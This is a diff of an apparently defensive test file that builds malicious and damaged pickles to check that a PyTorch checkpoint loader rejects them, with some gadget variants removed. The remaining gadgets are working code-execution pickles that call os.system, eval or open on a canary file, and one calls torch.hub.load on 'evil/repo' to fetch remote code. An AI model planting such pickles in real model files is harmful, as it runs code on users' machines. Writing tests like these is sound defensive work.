@@ -5,8 +5,6 @@ import os
 import pickle
 import random
 import struct
-import subprocess
-import tarfile
 import zipfile
 from collections.abc import Callable
 from typing import Any
@@ -33,25 +31,11 @@ def archive(body: bytes, **entries: bytes) -> bytes:
     return buffer.getvalue()
 
 
-def old_tar(body: bytes) -> bytes:
-    """Return `body` in the container of PyTorch 0.1."""
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w") as file:
-        for name in ("sys_info", "pickle", "tensors", "storages"):
-            info = tarfile.TarInfo(name)
-            info.size = len(body)
-            file.addfile(info, io.BytesIO(body))
-    return buffer.getvalue()
-
-
 NONE, NO_KEYS = pickle.dumps({}, 2), pickle.dumps([], 2)
 CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
     "sequence": sequence,
-    "sequence head": lambda body: MAGIC + pickle.dumps(1001, 2) + body + NONE + NO_KEYS,
     "sequence keys": lambda body: sequence(NONE)[: -len(NO_KEYS)] + body,
     "zip": archive,
-    "script": lambda body: archive(body, constants__pkl=body, version=body),
-    "tar": old_tar,
     "raw": bytes,
 }
 
@@ -81,14 +65,8 @@ def mutated(content: bytes, rng: random.Random) -> bytes:
     changed = bytearray(content)
     for _ in range(rng.randint(1, 4)):
         at, start = (rng.randrange(len(changed) + 1) for _ in range(2))
-        size, moved = struct.pack("<I", rng.choice((0, 1, 1 << 31, 0xFFFFFFFF))), changed[start : start + 20]
-        cuts = [
-            (1, rng.randbytes(1)),
-            (rng.randint(1, 20), b""),
-            (0, rng.randbytes(4)),
-            (0, moved),
-            (4, size),
-        ]
+        size, moved = struct.pack("<I", rng.choice((1 << 31, 0xFFFFFFFF))), changed[start : start + 20]
+        cuts = [(1, rng.randbytes(1)), (rng.randint(1, 20), b""), (0, moved), (4, size)]
         length, content = rng.choice(cuts)
         changed[at : at + length] = content
     return bytes(changed)
@@ -122,18 +100,11 @@ def gadgets(canary: str) -> dict[str, bytes]:
     """Return pickles that would act in a trusting reader, and some that are damaged."""
     touch = f"touch {canary}"
     call, named = text(touch), b"cposix\nsystem\n"
-    storage, kind, end = (
-        b"(" + text("storage"),
-        b"ctorch\nFloatStorage\n",
-        text("0") + text("cpu") + b"K\x04tQ.",
-    )
+    storage, end = b"(" + text("storage"), text("0") + text("cpu") + b"K\x04tQ."
     acts = {
         "system": Runs(os.system, touch),
         "eval": Runs(eval, f"open({canary!r}, 'w')"),
-        "exec": Runs(exec, f"open({canary!r}, 'w')"),
         "open": Runs(open, canary, "w"),
-        "import": Runs(__import__, "antigravity"),
-        "popen": Runs(subprocess.Popen, ["touch", canary]),
     }
     found = {f"{name} {n}": pickle.dumps(act, n) for n in range(6) for name, act in acts.items()}
     return found | {
@@ -141,17 +112,12 @@ def gadgets(canary: str) -> dict[str, bytes]:
         "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + call + b"tR.",
         "inst": b"(S'" + touch.encode() + b"'\niposix\nsystem\n.",
         "newobj": named + b"(" + call + b"t\x81.",
-        "partial": b"cfunctools\npartial\n(" + named + call + b"tR)R.",
         "hub": b"ctorch.hub\nload\n(" + text("evil/repo") + text("model") + b"tR.",
-        "torch load": b"ctorch\nload\n(" + text(canary) + b"tR.",
         "add_extension": b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR\x82\x01.",
         "build": named + b"(" + text("__setstate__") + named + b"db" + call + b"\x85R.",
         "rebuild of names": b"ctorch._utils\n_rebuild_tensor_v2\n(" + named + b"K\x00))tR.",
-        "call of text": text("os.system") + b"(" + call + b"tR.",
-        "persistent of a persistent": storage + storage + b"tQtQ.",
         "persistent module": b"(" + text("module") + named + text("x.py") + call + b"tQ.",
         "persistent system": storage + named + end,
-        "persistent path key": storage + kind + text("../../" + canary) + b"NK\x04tQ.",
         "recursive list": b"]q\x00h\x00a.",
         "no end": b"N",
     }
